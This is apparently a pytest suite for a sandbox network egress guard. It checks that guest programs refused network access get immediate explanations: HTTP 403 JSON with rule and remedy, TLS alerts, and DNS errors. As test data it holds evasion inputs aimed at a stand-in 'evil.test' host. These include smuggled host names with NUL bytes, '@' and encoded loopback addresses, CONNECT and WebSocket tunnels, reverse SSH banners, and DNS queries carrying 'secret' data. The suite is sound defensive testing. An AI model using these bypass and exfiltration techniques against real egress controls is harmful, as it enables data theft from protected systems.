"""What a refused program is told: at once, in its own protocol, with the rule and what to do."""

import json
import ssl
import time

import anyio
import pytest
from special import SPECIAL
from wired import wired

from instavm.contract.egress import Egress
from instavm.node.network.guard import Networks
from instavm.node.network.policy import Registry

pytestmark = pytest.mark.anyio
OPEN_S = 1.0
"""How long a refused program may be kept waiting."""

GET = """
import json, sys, time, urllib.request, urllib.error
began = time.monotonic()
try:
    said = urllib.request.urlopen(sys.argv[1], timeout=10); told = [said.status, said.read().decode()]
except urllib.error.HTTPError as exc:
    told = [exc.code, exc.headers["Content-Type"] + "|" + exc.headers["Connection"] + "|" + exc.read().decode()]
except OSError as exc:
    told = [0, str(exc)]
print(json.dumps([time.monotonic() - began, *told]))
"""
TLS = """
import json, socket, ssl, sys, time
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
link = socket.create_connection((sys.argv[1], 443), 10)
began = time.monotonic()
try:
    context.wrap_socket(link, server_hostname=sys.argv[2]); told = "connected"
except OSError as exc:
    told = getattr(exc, "reason", None) or type(exc).__name__
print(json.dumps([time.monotonic() - began, told]))
"""
RAW = """
import json, socket, sys, time
link = socket.create_connection((sys.argv[1], int(sys.argv[2])), 10)
link.settimeout(10)
link.sendall(bytes.fromhex(sys.argv[3]))
data = b""
try:
    while more := link.recv(65536): data += more
except OSError as exc:
    data += b" " + type(exc).__name__.encode()
print(data.decode("latin-1"))
"""
ASK = """
import socket, sys
link = socket.socket(2, 2); link.settimeout(5); link.connect(("192.0.0.1", 53))
link.send(bytes.fromhex(sys.argv[1])); print(link.recv(4096).hex())
"""


@pytest.fixture(scope="module")
async def guest(settings, internet, anyio_backend):
    """Programs where a guest would be, the network that they are in, and its log."""
    networks = Networks(settings.model_copy(update={"egress_dns": (internet.a,)}))
    async with networks.open():
        network = await networks.make()
        with wired(network.space) as inside:
            inside.network = network
            yield inside
        await network.aclose()


@pytest.fixture
async def listed(guest, internet):
    internet.names(
        {
            "good.test": [internet.a],
            "other.test": [internet.a],
            "evil.test": [internet.b],
            "inner.test": [internet.private],
            "index.test": [internet.b],
        }
    )
    await allow(guest, domains=("good.test", "inner.test"))
    return guest


async def allow(guest, **egress):
    await guest.network.put(Egress(**egress), [Registry("index.test")])


async def run(guest, code, *words):
    return await anyio.to_thread.run_sync(guest.python, code, *words)


async def asked(guest, code, *words):
    return json.loads(await run(guest, code, *words))


async def counts(guest):
    return {
        (one.name or one.address, one.port, one.rule): one.count
        for one in (await guest.network.log()).seen
        if not one.allowed
    }


async def test_http_is_told_host_rule_and_remedy(listed):
    took, status, told = await asked(listed, GET, "http://inner.test/")
    kind, connection, body = told.split("|")
    assert (status, kind, connection) == (403, "application/json", "close") and took < OPEN_S
    said = json.loads(body)
    assert (said["error"], said["host"], said["port"], said["rule"]) == ("egress_refused", "inner.test", 80, "private")
    assert "allowed_cidrs" in said["remedy"] and "--cidr" in said["remedy"]


async def test_a_port_that_is_closed_is_told_too(guest, listed):
    await allow(guest, domains=("good.test",), https=True)
    took, status, told = await asked(guest, GET, "http://good.test/")
    assert status == 403 and took < OPEN_S
    said = json.loads(told.split("|")[2])
    assert said["rule"] == "port" and "allow_http=True" in said["remedy"] and "--allow-http" in said["remedy"]
    await allow(guest, domains=("good.test",), http=True)
    assert await asked(guest, TLS, "good.test", "good.test") == [
        pytest.approx(0, abs=OPEN_S),
        "TLSV1_ALERT_ACCESS_DENIED",
    ]


@pytest.mark.parametrize(
    ("head", "rule", "host"),
    [
        (b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n", "wrong_name", "other.test"),
        (b"GET http://other.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n", "wrong_name", "other.test"),
        (b"GET HTTP://other.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n", "wrong_name", "other.test"),
        (b"GET http://good.test/ HTTP/1.1\r\nHost: other.test\r\n\r\n", "wrong_name", "other.test"),
        (b"CONNECT other.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n", "connect", "other.test"),
        (b"GET ftp://good.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n", "not_tls_or_http", "good.test"),
        (b"GET evil.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n", "not_tls_or_http", "good.test"),
        (b"GET / HTTP/1.0\r\n\r\n", "no_name", "good.test"),
    ],
)
async def test_a_request_for_something_else(listed, internet, head, rule, host):
    internet.forget()
    told = await run(listed, RAW, "good.test", "80", head.hex())
    assert told.startswith("HTTP/1.1 403 ")
    said = json.loads(told.partition("\n\n")[2])
    assert (said["rule"], said["host"]) == (rule, host)
    assert not [line for line in internet.seen if line.startswith("http")]


BAD = (
    *(
        "evil.test\0.good.test",
        "good.test\0",
        "good.te\tst",
        "good%2etest",
        "evil@good.test",
        "good..test",
        "good.test..",
    ),
    *(
        "a" * 64 + ".good.test",
        "a." * 130 + "good.test",
        "-x.good.test",
        "127.0.0.1",
        "0x7f.1",
        "2130706433",
        "017700000001",
    ),
    *("[::1]", "g\xfcod.test"),
)


@pytest.mark.parametrize("name", BAD, ids=[ascii(name)[:24] for name in BAD])
async def test_a_name_that_is_none_is_refused_with_the_same_word_everywhere(guest, listed, internet, name):
    """In a Host header, an absolute URL, CONNECT, SNI and a question of DNS."""
    await allow(guest, domains=("good.test", "*.good.test", "*.test"))
    internet.forget()
    before, raw = await counts(guest), name.encode("latin-1")
    for head in (
        b"GET / HTTP/1.1\r\nHost: " + raw + b"\r\n\r\n",
        b"GET http://" + raw + b"/ HTTP/1.1\r\nHost: good.test\r\n\r\n",
        b"CONNECT " + raw + b":443 HTTP/1.1\r\nHost: good.test\r\n\r\n",
    ):
        told = await run(guest, RAW, "good.test", "80", head.hex())
        assert json.loads(told.partition("\n\n")[2])["rule"] == "bad_name", head
    alert = await run(guest, RAW, "good.test", "443", client_hello(raw).hex())
    assert alert.encode("latin-1") == b"\x15\x03\x03\0\2\2\x31\n"
    web, tls = ("good.test", 80, "bad_name"), ("good.test", 443, "bad_name")
    after = await counts(guest)
    assert (after.get(web, 0) - before.get(web, 0), after.get(tls, 0) - before.get(tls, 0)) == (3, 1)
    if all(0 < len(label) < 64 for label in raw.split(b".")) and len(raw) < 250:  # else DNS cannot even carry it
        said = bytes.fromhex(await run(guest, ASK, question(raw).hex()))
        assert said[3] & 15 == 3
        named = sum(
            count for (_, port, rule), count in (await counts(guest)).items() if (port, rule) == (53, "bad_name")
        )
        assert named == 1 + sum(count for (_, port, rule), count in after.items() if (port, rule) == (53, "bad_name"))
    assert not [line for line in internet.seen if line.startswith(("http", "tls"))]


@pytest.mark.parametrize("name", ["GOOD.test", "good.test."])
async def test_another_spelling_of_the_same_name_is_that_name_everywhere(listed, internet, name):
    raw = name.encode()
    told = await run(listed, RAW, "good.test", "80", (b"GET / HTTP/1.0\r\nHost: " + raw + b"\r\n\r\n").hex())
    assert "200 OK" in told
    _, told = await asked(listed, TLS, "good.test", name)
    assert told == "connected"


@pytest.mark.parametrize("address", SPECIAL)
async def test_a_name_that_resolves_to_a_special_address(guest, internet, address):
    """Whatever is open to the public; a program is told so at once, and nothing is dialled."""
    name = f"n{list(SPECIAL).index(address)}.test"
    internet.names({name: [address]})
    for egress in (
        {"http": True, "https": True},
        {"domains": ("*.test",)},
        {"domains": ("*.test",), "cidrs": ("0.0.0.0/0",)},
    ):
        await allow(guest, **egress)
        took, status, told = await asked(guest, GET, f"http://{name}/")
        said = json.loads(told.split("|")[2])
        assert (status, said["rule"], said["host"]) == (403, SPECIAL[address], name) and took < OPEN_S
        assert (await guest.network.check(name, 80, "tcp", None)).rule == SPECIAL[address], (
            "it says the same when asked"
        )


async def test_a_redirect_to_a_refused_name_ends_at_once_and_the_log_names_the_rule(listed, internet):
    for url in ("http://evil.test/", f"http://{internet.b}/", "https://evil.test/"):
        took, status, told = await asked(listed, GET, f"http://good.test/to/{url}")
        assert took < OPEN_S and status == 0 and ("not known" in told or "refused" in told), (url, told)
    took, status, told = await asked(listed, GET, "http://good.test/to/http://inner.test/")
    assert took < OPEN_S and status == 403 and '"private"' in told
    seen = await counts(listed)
    assert ("evil.test", 53, "no_rule") in seen and (internet.b, 80, "no_rule") in seen


async def test_addresses_and_datagrams_are_refused_at_once(listed, internet):
    code = """
import json, socket, sys, time
began = time.monotonic(); told = []
for kind, port in ((1, 22), (1, 443), (2, 53), (2, 443)):
    try:
        link = socket.socket(2, kind); link.settimeout(5); link.connect((sys.argv[1], port)); link.send(b"x"); link.recv(1)
    except OSError as exc:
        told.append(type(exc).__name__)
print(json.dumps([time.monotonic() - began, told]))
"""
    took, told = await asked(listed, code, internet.b)
    assert took < OPEN_S
    assert told[:2] == ["ConnectionRefusedError"] * 2 and "TimeoutError" not in told


async def test_who_asks_dns_for_more_is_told_why(listed):
    """An extended error (RFC 8914) where the question allows for one; the answer is the same without."""
    code = """
import dns.message, dns.query, dns.rcode
said = dns.query.udp(dns.message.make_query("evil.test", "A", use_edns=True), "192.0.0.1", timeout=5)
print(dns.rcode.to_text(said.rcode()), *[(int(one.code), one.text) for one in said.options])
"""
    told = await run(listed, code)
    assert told.startswith("NXDOMAIN") and "18" in told and "no_rule" in told


async def test_a_tunnel_under_no_policy_and_under_packages_alone(guest, listed, internet):
    """Reverse SSH, WebSocket, and data in names that are asked for: nothing of it gets out."""
    for egress in ({}, {"packages": True}):
        await allow(guest, **egress)
        internet.forget()
        before = internet.packets()
        for host in ("evil.test", internet.b):
            for port in (22, 80, 443, 8080):
                told = await run(guest, RAW, host, str(port), b"SSH-2.0-OpenSSH_9.2\r\n".hex())
                assert "refused" in told or "not known" in told or "No address" in told, (host, port, told)
        for kind in (1, 5, 10, 16, 28, 65, 255):
            said = bytes.fromhex(await run(guest, ASK, question(b"c2VjcmV0." * 20 + b"evil.test", kind).hex()))
            assert said[3] & 15 == 3, kind
        assert internet.packets() == before and internet.seen == []
    for said, rule in (
        (b"SSH-2.0-OpenSSH_9.2\r\n", "not_tls_or_http"),
        (b"GET / HTTP/1.1\r\nHost: evil.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n", "wrong_name"),
    ):
        await run(guest, RAW, "index.test", "80", said.hex())
        assert ("index.test", 80, rule) in await counts(guest)
    assert not [line for line in internet.seen if line.startswith("http")], (
        "an allowed registry is no way to anybody else"
    )


async def test_a_flood_of_refused_connections_is_not_all_told_why(listed):
    code = """
import socket
links = [socket.create_connection(("inner.test", 80), 10) for _ in range(100)]
told = reset = 0
for link in links:
    link.settimeout(10)
    try:
        link.sendall(b"GET / HTTP/1.1\\r\\nHost: inner.test\\r\\n\\r\\n")
        data = link.recv(4096); told += data.startswith(b"HTTP/1.1 403"); reset += not data
    except OSError:
        reset += 1
print(told, told + reset)
"""
    told, both = map(int, (await run(listed, code)).split())
    assert both == 100 and told > 0


async def test_what_stays_allowed_is_never_cut_while_policies_change(guest, listed, internet):
    """One policy takes the place of another at once: nothing fails that both allow, nothing passes that neither does."""
    code = """
import socket, sys, time
failed = passed = 0
until = time.monotonic() + float(sys.argv[1])
while time.monotonic() < until:
    try:
        link = socket.create_connection(("good.test", 80), 5)
        link.sendall(b"GET / HTTP/1.0\\r\\nHost: good.test\\r\\n\\r\\n")
        data = b""
        while more := link.recv(4096): data += more
        assert b"200 OK" in data, data
        passed += 1
    except (OSError, AssertionError) as exc:
        failed += 1; print(repr(exc))
    try:
        socket.create_connection((sys.argv[2], 80), 5); print("it passed")
    except OSError: pass
print(passed, failed)
"""
    internet.forget()
    one = guest.start(code, "4", internet.b)
    ended = time.monotonic() + 3.5
    swaps = 0
    while time.monotonic() < ended:
        await allow(guest, domains=("good.test",), cidrs=(f"{internet.private}/32",))
        await allow(guest, domains=("good.test", "other.test"))
        swaps += 2
    told = await anyio.to_thread.run_sync(lambda: one.communicate()[0])
    passed, failed = map(int, told.splitlines()[-1].split())
    assert failed == 0 and passed > 20 and swaps > 20, told
    assert not [line for line in internet.seen if internet.b in line]


def client_hello(name):
    """A client's, with any bytes in the place of its name."""
    context = ssl.create_default_context()
    context.check_hostname = False
    outgoing = ssl.MemoryBIO()
    link = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="placeholder")
    with pytest.raises(ssl.SSLWantReadError):
        link.do_handshake()
    return with_name(outgoing.read(), name)


def with_name(record, name):
    body, at = record[9:], 34
    at += 1 + body[at]
    at += 2 + int.from_bytes(body[at : at + 2])
    at += 1 + body[at]
    fixed, rest, extensions = body[:at], body[at + 2 :], b""
    while rest:
        kind, size = int.from_bytes(rest[:2]), int.from_bytes(rest[2:4])
        content, rest = rest[4 : 4 + size], rest[4 + size :]
        if kind == 0:
            content = (len(name) + 3).to_bytes(2) + b"\0" + len(name).to_bytes(2) + name
        extensions += kind.to_bytes(2) + len(content).to_bytes(2) + content
    body = fixed + len(extensions).to_bytes(2) + extensions
    message = b"\1" + len(body).to_bytes(3) + body
    return b"\x16\3\1" + len(message).to_bytes(2) + message


def question(name, kind=1):
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
    return b"\0\7\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + kind.to_bytes(2) + b"\0\1"
